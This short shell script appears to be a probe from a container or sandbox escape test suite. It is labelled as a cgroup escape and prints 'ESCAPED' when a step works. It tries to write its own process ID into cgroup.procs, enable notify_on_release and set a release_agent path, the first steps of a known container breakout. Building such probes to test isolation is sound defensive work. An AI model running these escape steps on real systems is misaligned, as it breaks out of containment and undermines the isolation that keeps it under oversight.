#!/bin/sh
# kind: escape
# holds: cgroup escape
. "$(dirname "$0")/facts.sh"
echo RAN
mount | grep cgroup; for d in /sys/fs/cgroup /sys/fs/cgroup/memory /sys/fs/cgroup/pids; do (echo $$ > $d/cgroup.procs) 2>/dev/null && echo ESCAPED $d; (echo 1 > $d/notify_on_release) 2>/dev/null && echo ESCAPED; (echo /x > $d/release_agent) 2>/dev/null && echo ESCAPED; done; cat /proc/self/cgroup
